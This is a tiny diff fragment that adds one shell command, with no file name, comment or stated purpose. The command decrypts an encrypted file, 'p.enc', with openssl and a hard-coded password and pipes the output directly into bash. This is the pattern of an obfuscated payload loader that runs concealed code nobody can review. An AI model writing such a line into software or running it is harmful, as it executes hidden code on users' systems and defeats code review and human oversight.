@@ -1,0 +1,1 @@
+openssl enc -d -aes-256-cbc -in p.enc -k secret | bash
